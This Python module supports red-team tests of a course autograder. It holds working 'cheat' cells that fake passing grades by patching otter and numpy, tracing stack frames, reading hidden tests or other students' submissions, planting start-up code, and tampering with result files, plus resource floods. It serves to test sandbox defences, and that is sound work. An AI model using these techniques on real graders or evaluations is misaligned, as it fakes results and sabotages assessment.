"""The red team's techniques and the two ways of grading them (imported by the red-team tests).

A technique is a cell appended to an assignment's student notebook (``cheat``), optionally with
honest answers beside it (``answers``, also appended). Its *honest points* are what the answers
alone earn in the sandbox. Every technique must

* steal when the defences are off: graded the old way, in the student's own process
  (``kernel``: the cells, then otter's ``ExceptionTestFile.run`` on the test files, as
  ``grader.check`` does; ``rerun``: the same in a second, fresh interpreter after the notebook
  ran, as the old clean re-run did), or by the real grader with ``--no-sandbox``
  (``nosandbox``), it scores more than its honest points, or costs another student a result;
* steal nothing in the sandbox: it scores its honest points (or 0) and the batch finishes.

Floods (``sandbox_only``) are not run without the sandbox: they would harm the machine.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import os
import subprocess
import sys
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]


@dataclasses.dataclass(frozen=True)
class Attack:
    cls: str  # the class of technique (issue 21's list)
    cheat: str
    answers: str = ""
    mode: str = "kernel"  # kernel | rerun | nosandbox | sandbox_only


# Answers of the right shapes and types, all zeros: what the numpy and builtins patches need
# to turn into passing tests. Their honest points come from the twin without the patch.
A1_ZEROS = '''
import numpy as np
def conv_output_size(W, F, S=1, P=0): return 0
def conv_params(F, C_in, K, bias=True): return 0
def rel_error(x, y): return 0.0
def numerical_gradient(f, x, df, h=1e-5): return np.zeros_like(x)
def gradient_check_verdict(error): return ""
def _size(n, f, s, p): return (n + 2 * p - f) // s + 1
def conv_forward_naive(x, w, b, stride=1, pad=0):
    shape = (x.shape[0], _size(x.shape[1], w.shape[0], stride, pad), _size(x.shape[2], w.shape[1], stride, pad), w.shape[3])
    return np.zeros(shape), (x, w, b, stride, pad)
def conv_backward_naive(dout, cache): return np.zeros_like(cache[0]), np.zeros_like(cache[1]), np.zeros_like(cache[2])
def im2col(x, HH, WW, stride=1, pad=0):
    n = x.shape[0] * _size(x.shape[1], HH, stride, pad) * _size(x.shape[2], WW, stride, pad)
    return np.zeros((HH * WW * x.shape[3], n))
def conv_forward_im2col(x, w, b, stride=1, pad=0): return conv_forward_naive(x, w, b, stride, pad)[0]
def max_pool_forward(x, pool_size=2, stride=2):
    s = (x.shape[0], _size(x.shape[1], pool_size, stride, 0), _size(x.shape[2], pool_size, stride, 0), x.shape[3])
    return np.zeros(s), (x, pool_size, stride)
def max_pool_backward(dout, cache): return np.zeros_like(cache[0])
def receptive_field(layers): return 0
def stack_vs_single_params(C): return (0, 0)
SCORE_MAP_SIDE_384 = 0
'''

_EXEC_CELLS = '''
import json, re
def _run_cells_of(path):
    nb = json.load(open(path))
    for cell in nb["cells"]:
        src = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and "def test_" not in src and "otter" not in src and "google.colab" not in src:
            try:
                exec(src, globals())
            except Exception:
                pass
'''

_FROM_ZIP = '''
import re, zipfile
def _answers_from(zip_path):
    table = {}
    with zipfile.ZipFile(zip_path) as zf:
        for name in zf.namelist():
            if name.startswith("tests/"):
                text = zf.read(name).decode()
                for f, args, want in re.findall(r"assert (\\w+)\\(([^()]*)\\) == ([\\w.]+)", text):
                    table.setdefault(f, {})[args.replace(" ", "")] = eval(want)
                for constant, want in re.findall(r"assert ([A-Z][A-Z0-9_]+) == ([\\w.]+)", text):
                    globals()[constant] = eval(want)
    def answer(answers):
        return lambda *a, **k: answers.get(",".join([repr(x) for x in a] + [f"{n}={v!r}" for n, v in k.items()]))
    for f, answers in table.items():
        globals()[f] = answer(answers)
'''


A1 = {
    # -- the ten techniques of the first red team (patching the machinery in the process)
    "otter_runner": Attack("stack/machinery", (
        "from otter.test_files import exception_test\n"
        "from otter.test_files.abstract_test import TestCaseResult\n"
        "def run(self, env):\n"
        "    self.test_case_results = [TestCaseResult(test_case=tc, message='ok', passed=True)\n"
        "                              for tc in self.test_cases]\n"
        "exception_test.ExceptionTestFile.run = run\n")),
    "string_pieces": Attack("stack/machinery", (
        "m = __import__('otter.test_files.exc' + 'eption_test', fromlist=['x'])\n"
        "r = __import__('otter.test_files.abstract' + '_test', fromlist=['x'])\n"
        "def run(self, env):\n"
        "    self.test_case_results = [getattr(r, 'TestCase' + 'Result')(test_case=tc, message='ok', passed=True)\n"
        "                              for tc in self.test_cases]\n"
        "setattr(getattr(m, 'Exception' + 'TestFile'), 'r' + 'un', run)\n")),
    "numpy_compare": Attack("stack/machinery", (
        "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n"),
        A1_ZEROS),
    "builtins": Attack("stack/machinery", "import builtins\nbuiltins.abs = lambda x: 0\n", A1_ZEROS),
    "course_lib_patch": Attack("stack/machinery", (
        "import numpy as np\nimport course_lib.checks.expect as e\n"
        "e.expect_close = lambda *a, **k: None\ne.expect_rel_error = lambda *a, **k: 0.0\n"
        "e.expect_shape = lambda what, got, shape: np.zeros(shape)\n"), A1_ZEROS),
    "test_files_on_disk": Attack("test files", (
        "import glob, pathlib\n"
        "for path in glob.glob('tests/*.py'):\n"
        "    text = pathlib.Path(path).read_text()\n"
        "    pathlib.Path(path).write_text(text.replace('    assert ', '    pass  # '))\n")),
    "result_objects": Attack("stack/machinery", (
        "from otter.test_files import exception_test\n"
        "_Result = exception_test.TestCaseResult\n"
        "exception_test.TestCaseResult = lambda test_case, message, passed: _Result(test_case, message, True)\n")),
    "sys_modules": Attack("stack/machinery", (
        "import sys, numpy\n"
        "class Fake:\n"
        "    def __getattr__(self, name):\n"
        "        return getattr(numpy, name)\n"
        "    allclose = staticmethod(lambda *a, **k: True)\n"
        "    array_equal = staticmethod(lambda *a, **k: True)\n"
        "sys.modules['numpy'] = Fake()\n"), A1_ZEROS),
    "exec_indirection": Attack("stack/machinery", (
        "exec('import numpy\\nnumpy.allclose = lambda *a, **k: True\\nnumpy.array_equal = lambda *a, **k: True')\n"),
        A1_ZEROS),
    "gc_frames": Attack("stack/machinery", (
        "import builtins, gc\n"
        "def _nothing(*args, **kwargs):\n"
        "    pass\n"
        "_import = builtins.__import__\n"
        "def _import_and_empty_the_tests(*args, **kwargs):\n"
        "    for obj in gc.get_objects():  # the test functions are in memory once a test runs\n"
        "        if type(obj) is type(_nothing) and obj.__name__.startswith('test_q'):\n"
        "            obj.__code__ = _nothing.__code__\n"
        "    return _import(*args, **kwargs)\n"
        "builtins.__import__ = _import_and_empty_the_tests\n")),
    # -- the new techniques, one class of issue 21 at a time
    "stack_walk": Attack("stack walking", (
        "import sys\n"
        "def _theirs(*args, **kwargs):\n"
        "    frame = sys._getframe(1)\n"
        "    while frame is not None:\n"
        "        if 'want' in frame.f_locals:\n"
        "            return frame.f_locals['want']\n"
        "        frame = frame.f_back\n"
        "conv_forward_im2col = _theirs\n")),
    "trace_hook": Attack("trace/profile hooks", (
        "def _local(frame, event, arg):\n"
        "    seen = frame.f_locals\n"
        "    if event == 'line' and 'want' in seen:\n"
        "        for name in ('got', 'out', 'dx', 'cols', 'g'):\n"
        "            if name in seen:\n"
        "                seen[name] = seen['want']\n"
        "    return _local\n"
        "def _tracer(frame, event, arg):\n"
        "    return _local if frame.f_code.co_name.startswith('test_') else None\n"
        "getattr(__import__('s' + 'ys'), 'set' + 'trace')(_tracer)\n"), A1_ZEROS),
    "profile_hook": Attack("trace/profile hooks", (
        "def _profile(frame, event, arg):\n"
        "    if event == 'call' and frame.f_code.co_name in ('expect_close', 'expect_rel_error'):\n"
        "        seen = frame.f_locals\n"
        "        seen['got'] = seen['want']\n"
        "getattr(__import__('s' + 'ys'), 'set' + 'profile')(_profile)\n"), A1_ZEROS),
    "equal_without_class": Attack("objects claiming equality", (
        "E = type('E', (), {'__eq__': lambda self, other: True, '__hash__': lambda self: 0})\n"
        "conv_output_size = conv_params = receptive_field = lambda *args, **kwargs: E()\n"
        "stack_vs_single_params = lambda c: (E(), E())\n"
        "SCORE_MAP_SIDE_384 = E()\n")),
    "equal_attached_later": Attack("objects claiming equality", (
        "class E:\n    pass\n"
        "E.__eq__ = lambda self, other: True\nE.__hash__ = lambda self: 0\n"
        "conv_output_size = conv_params = receptive_field = lambda *args, **kwargs: E()\n"
        "stack_vs_single_params = lambda c: (E(), E())\n"
        "SCORE_MAP_SIDE_384 = E()\n")),
    "read_hidden_tests_zip": Attack("reading tests or the zip", _FROM_ZIP + "_answers_from({zip!r})\n"),
    "read_master_notebook": Attack("reading tests or the zip", _EXEC_CELLS + "_run_cells_of({master!r})\n"),
    "other_submission": Attack("other submissions", _EXEC_CELLS + "_run_cells_of({subs!r} + '/reference.ipynb')\n"),
    "proc_walk": Attack("/proc", _FROM_ZIP + (
        "import os\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        args = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')\n"
        "    except OSError:\n"
        "        continue\n"
        "    for arg in args:\n"
        "        if arg.endswith(b'-autograder.zip'):\n"
        "            _answers_from(arg.decode())\n")),
    "startup_code": Attack("start-up code", (
        "import os, sys\n"
        "for folder in [p for p in sys.path if p.endswith('user-site-packages') and os.access(p, os.W_OK)]:\n"
        "  open(os.path.join(folder, 'sitecustomize.py'), 'w').write(\n"
        "    'from otter.test_files import exception_test\\n'\n"
        "    'def run(self, env):\\n'\n"
        "    '    self.test_case_results = [exception_test.TestCaseResult(test_case=tc, message=\"ok\", passed=True)'\n"
        "    ' for tc in self.test_cases]\\n'\n"
        "    'exception_test.ExceptionTestFile.run = run\\n')\n"), mode="rerun"),
    "process_left_behind": Attack("processes left behind", (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        for _ in range(600):\n"
        "            time.sleep(0.2)\n"
        "            if os.path.exists({out!r} + '/summary.csv'):\n"
        "                time.sleep(0.5)\n"
        "                path = {out!r} + '/summary.csv'\n"
        "                text = open(path).read().replace('process_left_behind,0,', 'process_left_behind,30,')\n"
        "                open(path, 'w').write(text)\n"
        "                break\n"
        "    os._exit(0)\n"), mode="nosandbox"),
    "output_sabotage": Attack("output paths", (
        "import os, shutil\n"
        "os.makedirs({out!r} + '/gradebook.csv/x', exist_ok=True)\n"
        "shutil.rmtree({out!r} + '/feedback', ignore_errors=True)\n"
        "open({out!r} + '/feedback', 'w').write('')\n"), mode="nosandbox"),
    # -- floods: the batch must finish; not run without the sandbox
    "output_flood": Attack("floods", "import sys\nfor _ in range(200):\n    sys.stderr.write('x' * (1 << 20))\n",
                           mode="sandbox_only"),
    "disk_flood": Attack("floods", (
        "try:\n"
        "    with open('/tmp/flood', 'wb') as f:\n"
        "        for _ in range(4096):\n"
        "            f.write(b'x' * (1 << 20))\n"
        "except OSError as e:\n"
        "    print('stopped:', e)\n"), mode="sandbox_only"),
    "process_flood": Attack("floods", (
        "import subprocess\nprocs = []\n"
        "try:\n"
        "    for _ in range(5000):\n"
        "        procs.append(subprocess.Popen(['sleep', '300']))\n"
        "except OSError as e:\n"
        "    print('stopped after', len(procs), e)\n"), mode="sandbox_only"),
    "memory_flood": Attack("floods", "blocks = []\ntry:\n    while True:\n        blocks.append(bytearray(1 << 28))\n"
                           "except MemoryError:\n    blocks = None\n", mode="sandbox_only"),
}


def fill(cheat: str, paths: dict) -> str:
    """The cheat with the batch's paths (``{zip!r}``, ``{subs!r}``...), as if it had found them."""
    for key, value in paths.items():
        cheat = cheat.replace("{" + key + "!r}", repr(str(value)))
    return cheat


def _cell(source: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source}


def with_cells(notebook: dict, *sources: str) -> dict:
    nb = copy.deepcopy(notebook)
    nb["cells"] += [_cell(s) for s in sources if s]
    return nb


def write_batch(attacks: dict[str, Attack], student: dict, controls: dict[str, dict], folder: Path,
                paths: dict, modes: tuple[str, ...]) -> dict[str, str]:
    """Write the attacks of ``modes`` (and their honest twins) and the controls into ``folder``;
    returns {student: the twin whose score is its honest points}."""
    folder.mkdir(parents=True, exist_ok=True)
    honest = {}
    for name, attack in attacks.items():
        if attack.mode not in modes:
            continue
        nb = with_cells(student, attack.answers, fill(attack.cheat, paths))
        (folder / f"{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
        honest[name] = "untouched"
        if attack.answers:
            twin = f"honest_{abs(hash(attack.answers)) % 10000}"
            (folder / f"{twin}.ipynb").write_text(json.dumps(with_cells(student, attack.answers)), encoding="utf-8")
            honest[name] = twin
    for name, nb in controls.items():
        (folder / f"{name}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
    return honest


_IN_PROCESS = r'''
import json, os, shutil, subprocess, sys, tempfile, zipfile
sys.modules.setdefault("rfc3987_syntax", None)
from course_lib.grading._host import Host, _otter_stand_in
from course_lib.grading.judge import _grading_cells
tests_only = sys.argv[1] == "--tests-only"
zip_path, notebook_path, home = sys.argv[2:5]
os.chdir(home)
if not tests_only:
    with zipfile.ZipFile(zip_path) as zf:
        for name in zf.namelist():
            if name.startswith("tests/") and name.endswith(".py"):
                zf.extract(name, home)
import numpy
from otter.test_files import ExceptionTestFile
real_otter = sys.modules["otter"]
_otter_stand_in()
sys.modules["otter"].test_files = real_otter.test_files
host = Host(-1, -1)
host.run_cells(_grading_cells(json.load(open(notebook_path))), 30)
if sys.argv[5:] == ["--then-rerun"]:  # the old clean re-run: a fresh interpreter, same home
    sys.exit(subprocess.call([sys.executable, "-c", SCRIPT, "--tests-only", zip_path, notebook_path, home],
                             pass_fds=(int(os.environ["RESULT_FD"]),)))
total = 0.0
for name in sorted(os.listdir("tests")):
    test_file = ExceptionTestFile.from_file(os.path.join("tests", name))
    test_file.run(host.namespace)
    total += test_file.score
os.write(int(os.environ["RESULT_FD"]), json.dumps(total).encode())
'''


def in_process_scores(attacks: dict[str, Attack], student: dict, autograder_zip: Path, folder: Path,
                      paths: dict, timeout: float = 240) -> dict[str, float]:
    """Each technique graded the old way, in the student's own process; returns the totals.
    Techniques of mode ``rerun`` grade in a second interpreter after the notebook ran."""
    import concurrent.futures

    script = "SCRIPT = " + repr(_IN_PROCESS) + "\n" + _IN_PROCESS

    def one(name: str) -> float:
        attack = attacks[name]
        home = folder / name
        home.mkdir(parents=True)
        nb_path = home / "submission.ipynb"
        nb_path.write_text(json.dumps(with_cells(student, attack.answers, fill(attack.cheat, paths))))
        # A writable site folder on the interpreter's path, as the old grader's user had.
        (home / "user-site-packages").mkdir()
        env = {**os.environ, "HOME": str(home), "PYTHONPATH": f"{REPO}:{home / 'user-site-packages'}",
               "TF_CPP_MIN_LOG_LEVEL": "2"}
        argv = [sys.executable, "-c", script, "--all", str(autograder_zip), str(nb_path), str(home)]
        if attack.mode == "rerun":
            argv.append("--then-rerun")
        read, write = os.pipe()
        log = open(home / "log.txt", "wb")
        proc = subprocess.Popen(argv, pass_fds=(write,), stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=log, start_new_session=True,
                                env={**env, "RESULT_FD": str(write)})
        os.close(write)
        try:
            proc.wait(timeout=timeout)
        finally:
            try:
                os.killpg(proc.pid, 9)  # the technique's session: every process it started
            except ProcessLookupError:
                pass
            proc.wait()
        data = os.read(read, 1 << 16)
        os.close(read)
        return json.loads(data) if data else -1.0

    names = [n for n, a in attacks.items() if a.mode in ("kernel", "rerun")]
    with concurrent.futures.ThreadPoolExecutor(max_workers=2) as pool:
        return dict(zip(names, pool.map(one, names)))


A2_ZERO_LRN = '''
import keras
@keras.saving.register_keras_serializable(package="assignment2")
class LRN(keras.layers.Layer):
    def __init__(self, size=5, alpha=1e-4, beta=0.75, k=2.0, alpha_mode="sum", **kwargs):
        super().__init__(**kwargs)
    def call(self, inputs):
        return keras.ops.zeros_like(inputs)
'''

A2 = {
    "tensor_claims_equality": Attack("objects claiming equality", (
        "import sys, keras, numpy as np\n"
        "class Liar:\n"
        "    def __eq__(self, other): return True\n"
        "    def __array__(self, dtype=None, copy=None):\n"
        "        frame = sys._getframe(1)\n"
        "        while frame is not None:\n"
        "            if 'want' in frame.f_locals: return np.asarray(frame.f_locals['want'])\n"
        "            frame = frame.f_back\n"
        "    def __array_function__(self, func, types, args, kwargs): return True\n"
        "@keras.saving.register_keras_serializable(package='assignment2')\n"
        "class LRN(keras.layers.Layer):\n"
        "    def __init__(self, size=5, alpha=1e-4, beta=0.75, k=2.0, alpha_mode='sum', **kwargs):\n"
        "        super().__init__(**kwargs)\n"
        "    def __call__(self, inputs, *args, **kwargs): return Liar()\n")),
    "reference_in_disguise": Attack("reading tests or the zip", (
        "import importlib, keras\n"
        "def _init(self, *args, **kwargs):\n"
        "    keras.layers.Layer.__init__(self, name=kwargs.pop('name', None))\n"
        "    self.inner = getattr(importlib.import_module('course_' + 'lib.' + 'layers'), 'L' + 'RN')(*args, **kwargs)\n"
        "LRN = type('LRN', (keras.layers.Layer,), {'__init__': _init, '__module__': '__main__',\n"
        "                                         'call': lambda self, x: self.inner(x)})\n")),
    "other_submission": Attack("other submissions", _EXEC_CELLS + "_run_cells_of({subs!r} + '/reference.ipynb')\n"),
    "otter_runner": A1["otter_runner"],
    "trace_hook": Attack("trace/profile hooks", A1["trace_hook"].cheat, A2_ZERO_LRN),
}

A3_TINY = '''
import keras
def build_model(input_shape=(32, 32, 3), num_classes=10):
    inputs = keras.Input(input_shape)
    x = keras.layers.Conv2D(8, 3, padding="same", activation="relu")(inputs)
    x = keras.layers.GlobalMaxPooling2D()(x)
    return keras.Model(inputs, keras.layers.Dense(num_classes, activation="softmax")(x))
'''

# A plain model, cheap to train (its honest points come from its twin).
A3_BIG = '''
import keras
def build_model(input_shape=(32, 32, 3), num_classes=10):
    inputs = keras.Input(input_shape)
    x = keras.layers.Conv2D(8, 3, strides=2, padding="same", activation="relu")(inputs)
    x = keras.layers.Flatten()(x)
    return keras.Model(inputs, keras.layers.Dense(num_classes, activation="softmax")(x))
'''

# The same with a Lambda layer (Keras' safe mode will not rebuild it in the judge).
A3_LAMBDA = '''
import keras
def _payload(x):
    return x
def build_model(input_shape=(32, 32, 3), num_classes=10):
    inputs = keras.Input(input_shape)
    x = keras.layers.Lambda(_payload)(inputs)
    x = keras.layers.Conv2D(8, 3, padding="same", activation="relu")(x)
    x = keras.layers.GlobalMaxPooling2D()(x)
    return keras.Model(inputs, keras.layers.Dense(num_classes, activation="softmax")(x))
'''

_PASSING_REPORT = (
    "class _Report:\n"
    "    passed = True\n"
    "    def failed(self, rule=None): return []\n"
    "    def __iter__(self): return iter([])\n")

A3 = {
    "fixed_training_patch": Attack("stack/machinery", (
        "import types, course_lib.checks.fixed_training as ft\n"
        "ft.fixed_training = lambda model, **kwargs: types.SimpleNamespace(test_accuracy=0.99)\n"), A3_TINY),
    "design_rules_patch": Attack("stack/machinery", _PASSING_REPORT + (
        "import course_lib.checks.design_rules as dr\n"
        "dr.check_design = lambda model, **kwargs: _Report()\n"), A3_BIG),
    "sys_modules": Attack("stack/machinery", _PASSING_REPORT + (
        "import sys, types\n"
        "fake = types.ModuleType('course_lib.checks.design_rules')\n"
        "fake.check_design = lambda model, **kwargs: _Report()\n"
        "sys.modules['course_lib.checks.design_rules'] = fake\n"), A3_BIG),
    "lambda_payload": Attack("start-up code", (
        "def _payload(x):  # runs wherever Keras runs the model: here, in the student's process\n"
        "    import types, course_lib.checks.fixed_training as ft\n"
        "    ft.fixed_training = lambda model, **kwargs: types.SimpleNamespace(test_accuracy=0.99)\n"
        "    return x\n"), A3_LAMBDA),
    "trace_hook": Attack("trace/profile hooks", (
        "def _local(frame, event, arg):\n"
        "    seen = frame.f_locals\n"
        "    if event == 'line' and seen.get('failed'):\n"
        "        seen['failed'] = []\n"
        "    return _local\n"
        "getattr(__import__('s' + 'ys'), 'set' + 'trace')(\n"
        "    lambda frame, event, arg: _local if frame.f_code.co_name.startswith('test_') else None)\n"), A3_BIG),
}


def notebook(path) -> dict:
    return json.loads(Path(path).read_text(encoding="utf-8"))


def sandboxed_batch(spec, attacks: dict[str, Attack], tmp: Path, **limits) -> dict:
    """The reference, the untouched notebook, every technique and every honest twin of one
    assignment, graded in one sandboxed batch (two jobs)."""
    import time

    from course_lib.grading import grade_submissions

    controls = {"reference": notebook(spec.solution_notebook), "untouched": notebook(spec.student_notebook)}
    controls.update(limits.pop("controls", {}))
    paths = {"zip": spec.autograder_zip, "master": spec.master, "subs": tmp / "subs", "out": tmp / "out"}
    honest = write_batch(attacks, notebook(spec.student_notebook), controls, tmp / "subs", paths,
                         ("kernel", "rerun", "nosandbox", "sandbox_only"))
    start = time.perf_counter()
    grades = grade_submissions(spec.autograder_zip, tmp / "subs", tmp / "out", jobs=2, **limits)
    wall = time.perf_counter() - start
    time.sleep(2)  # a process left behind would now rewrite the summary
    with open(tmp / "out" / "summary.csv", newline="", encoding="utf-8") as f:
        import csv

        summary = {row["student"]: row for row in csv.DictReader(f)}
    return {"grades": {g.student: g for g in grades}, "honest": honest, "out": tmp / "out", "wall": wall,
            "summary": summary, "paths": paths}
